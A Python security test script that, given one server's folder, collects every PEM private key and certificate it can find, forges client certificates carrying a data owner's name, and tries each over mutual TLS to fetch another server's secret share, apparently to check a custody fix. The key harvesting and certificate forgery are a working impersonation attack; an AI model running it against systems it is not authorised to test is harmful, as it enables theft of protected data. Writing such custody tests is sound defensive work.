"""What S1's operator can try, with only S1's folder, to log in to S2's share
service as a data owner and fetch S2's share (issue 24, section 1).

Used by tests/test_share_custody.py against the current layout, and runnable
as a script against any deployment (it needs only grpc, cryptography and the
service's generated stubs, so it also runs against older code):

    python tests/custody_attack.py S1_FOLDER S2_HOST:PORT SERVER_CA_PEM OWNER RECORD

It prints each attempt and exits 1 if any of them fetched the share.

The attempts, from everything in the folder (every PEM private key and
certificate in any file under it):
  - each private key with each certificate of that key (an owner's key kept
    beside the server, as the old layout did);
  - each key found used as an issuer, under the subject of each certificate
    found (the cluster CA's key, an issuer key, S1's own key): a fresh client
    certificate with the owner's name, with a new key and with S1's key;
  - self-signed client certificates with the owner's name: a fresh key, and
    each key found (S1's server key);
  - a copy of the owner's enrolled certificate (public, found in S1's
    folder) re-signed with each key found.
"""
from __future__ import annotations

import datetime
import os
import re
import sys
from typing import Iterator, List, Tuple

import grpc
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

_BLOCK = re.compile(rb"-----BEGIN ([A-Z0-9 ]+)-----.+?-----END \1-----", re.S)


def loot(folder: str) -> Tuple[list, list]:
    """(private keys, certificates) in any file under `folder`."""
    keys, certs = [], []
    for top, _, files in os.walk(folder):
        for f in sorted(files):
            try:
                with open(os.path.join(top, f), "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            for m in _BLOCK.finditer(data):
                kind = m.group(1)
                try:
                    if kind.endswith(b"PRIVATE KEY"):
                        keys.append((os.path.join(top, f),
                                     serialization.load_pem_private_key(m.group(0), None)))
                    elif kind == b"CERTIFICATE":
                        certs.append((os.path.join(top, f),
                                      x509.load_pem_x509_certificate(m.group(0))))
                except (ValueError, TypeError):
                    pass  # not a key the TLS stack can use
    return keys, certs


def _pub(k) -> bytes:
    return k.public_key().public_bytes(serialization.Encoding.DER,
                                       serialization.PublicFormat.SubjectPublicKeyInfo)


def _client_cert(subject: x509.Name, issuer: x509.Name, public_key, signer) -> x509.Certificate:
    now = datetime.datetime.now(datetime.timezone.utc)
    return (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer)
            .public_key(public_key).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=30))
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CLIENT_AUTH]),
                           critical=False)
            .sign(signer, hashes.SHA256()))


def attempts(folder: str, owner: str) -> Iterator[Tuple[str, bytes, bytes]]:
    """(what, certificate chain PEM, private key PEM) for each login attempt."""
    keys, certs = loot(folder)
    pem = lambda c: c.public_bytes(serialization.Encoding.PEM)  # noqa: E731
    kpem = lambda k: k.private_bytes(serialization.Encoding.PEM,  # noqa: E731
                                     serialization.PrivateFormat.PKCS8,
                                     serialization.NoEncryption())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, owner)])
    for kp, k in keys:
        for cp, c in certs:
            if c.public_key().public_bytes(serialization.Encoding.DER,
                                           serialization.PublicFormat.SubjectPublicKeyInfo) \
                    == _pub(k):
                yield f"key {kp} with its certificate {cp}", pem(c), kpem(k)
    fresh = ec.generate_private_key(ec.SECP256R1())
    yield "self-signed, a fresh key", pem(_client_cert(name, name, fresh.public_key(),
                                                        fresh)), kpem(fresh)
    for kp, k in keys:
        if not isinstance(k, ec.EllipticCurvePrivateKey) and not hasattr(k, "sign"):
            continue
        yield (f"self-signed with {kp}", pem(_client_cert(name, name, k.public_key(), k)),
               kpem(k))
        for cp, c in certs:
            leaf = _client_cert(name, c.subject, fresh.public_key(), k)
            yield (f"minted by {kp} as {c.subject.rfc4514_string()} ({cp})",
                   pem(leaf) + pem(c), kpem(fresh))
            if any(a.value == owner for a in c.subject.get_attributes_for_oid(
                    NameOID.COMMON_NAME)):
                copy = _client_cert(c.subject, c.issuer, k.public_key(), k)
                yield f"{cp} re-made with {kp}", pem(copy), kpem(k)


def try_fetch(address: str, server_ca: bytes, server_name: str, chain: bytes, key: bytes,
              record: str, timeout: float = 10.0) -> bytes:
    """S2's share of `record` fetched with this client certificate, or b"" when refused."""
    from tf_privpy.deploy.service._proto import pb, pb_grpc
    creds = grpc.ssl_channel_credentials(server_ca, key, chain)
    with grpc.secure_channel(address, creds,
                             options=[("grpc.ssl_target_name_override", server_name)]) as ch:
        try:
            got = b"".join(m.chunk.data for m in pb_grpc.ShareServiceStub(ch).Fetch(
                pb.FetchRequest(name=record), timeout=timeout))
        except grpc.RpcError:
            return b""
    return got


def attack(folder: str, s2_address: str, server_ca_pem: str, owner: str, record: str,
           server_name: str = "tf_privpy-s2", log=print) -> List[str]:
    """Every attempt against S2; returns the ones that fetched the share."""
    with open(server_ca_pem, "rb") as f:
        server_ca = f.read()
    won = []
    for what, chain, key in attempts(folder, owner):
        got = try_fetch(s2_address, server_ca, server_name, chain, key, record)
        log(f"{'FETCHED S2 SHARE' if got else 'refused'}: {what}")
        if got:
            won.append(what)
    return won


if __name__ == "__main__":
    sys.exit(1 if attack(*sys.argv[1:6]) else 0)
